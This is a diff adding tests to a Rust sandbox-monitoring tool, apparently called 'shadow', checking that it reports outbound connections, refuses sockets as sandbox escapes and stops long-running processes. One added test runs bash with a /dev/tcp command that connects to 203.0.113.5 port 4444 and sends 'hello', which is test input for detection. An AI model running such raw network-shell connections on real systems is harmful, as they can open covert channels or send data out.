@@ -418,6 +418,12 @@ mod tests {
         let _door = std::os::unix::net::UnixListener::bind(dir.path().join("door")).unwrap();
         let refused = run(&["shadow", "run", "--state", state, "--", "/bin/true"]);
         fails(&refused, 7, "door in it is a socket: a way out of the sandbox");
+        assert_eq!(loud["attempts"][0]["processes"][0]["command"], "bash");
+        assert_eq!(loud["telltales"][0], "seccomp");
+        let script = "exec 3<>/dev/tcp/203.0.113.5/4444; echo hello >&3";
+        let told = run(&["shadow", "run", "--first-bytes", "64", "--", "/bin/bash", "-c", script]);
+        let wanted = "TCP to 203.0.113.5 port 4444, by bash (pid 2), saying \"hello\\n\"";
+        assert!(text(&told).contains(wanted), "{}", text(&told));
         let told = run(&["shadow", "run", "--for", "200ms", "--", "/bin/sleep", "1000"]);
         assert!(text(&told).contains("still ran, and was stopped"), "{}", text(&told));
         fails(&run(&["shadow", "run", "--", "/nowhere"]), 3, "cannot execute /nowhere");
